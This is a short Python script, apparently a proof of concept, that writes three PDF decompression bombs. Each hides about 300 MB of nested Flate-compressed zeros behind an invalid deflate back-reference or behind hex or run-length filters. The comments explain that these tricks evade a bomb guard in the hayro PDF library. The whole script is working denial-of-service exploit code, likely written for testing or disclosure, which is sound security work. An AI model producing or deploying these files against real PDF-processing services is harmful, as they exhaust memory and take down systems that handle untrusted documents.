import zlib
def bits_head():
    bits=[]
    def put(v,n):
        for i in range(n): bits.append((v>>i)&1)
    def huff(c,n):
        for i in reversed(range(n)): bits.append((c>>i)&1)
    put(0,1); put(1,2); huff(1,7); huff(0,5); huff(0,7)   # fixed block: <len 3, dist 1> with no output yet, EOB
    put(0,1); put(0,2)                                    # stored block, aligned, LEN=0
    while len(bits)%8: bits.append(0)
    return bytes(sum(b<<j for j,b in enumerate(bits[i:i+8])) for i in range(0,len(bits),8))+b'\x00\x00\xff\xff'
def zeros_zlib(n):
    c=zlib.compressobj(9); out=bytearray(); ch=b'\0'*(1<<20)
    for i in range(n>>20): out+=c.compress(ch)
    return bytes(out+c.flush())
def pdf(stream_dict, data, path):
    objs=[b'<< /Type /Catalog /Pages 2 0 R >>', b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
          b'<< /Length %d %s >>\nstream\n' % (len(data), stream_dict) + data + b'\nendstream']
    p=bytearray(b'%PDF-1.7\n'); offs=[]
    for i,o in enumerate(objs):
        offs.append(len(p)); p+=b'%d 0 obj\n'%(i+1)+o+b'\nendobj\n'
    x=len(p)
    p+=b'xref\n0 5\n0000000000 65535 f \n'+b''.join(b'%010d 00000 n \n'%o for o in offs)
    p+=b'trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n'%x
    open(path,'wb').write(p); print(path,len(p))
inner=zeros_zlib(300<<20)
# 1: outer stage starts with an invalid back-reference (flate2 stops at once, hayro's lenient inflater skips it)
c=zlib.compressobj(9,zlib.DEFLATED,-15); body=c.compress(inner)+c.flush()
outer=b'\x78\xda'+bits_head()+body+b'\0\0\0\0'
pdf(b'/Filter [/FlateDecode /FlateDecode]', outer, 'flate_bomb_behind_invalid_backref.pdf')
# 2: hex-encoded double flate: the guard only looks at leading FlateDecode stages
dbl=zlib.compress(inner,9)
pdf(b'/Filter [/ASCIIHexDecode /FlateDecode /FlateDecode]', dbl.hex().encode()+b'>', 'flate_bomb_behind_asciihex.pdf')
# 3: the same behind RunLengthDecode (all literal runs): still not checked by the guard
rl=bytearray()
for i in range(0,len(dbl),128):
    ch=dbl[i:i+128]; rl.append(len(ch)-1); rl+=ch
rl.append(128)
pdf(b'/Filter [/RunLengthDecode /FlateDecode /FlateDecode]', bytes(rl), 'flate_bomb_behind_runlength.pdf')
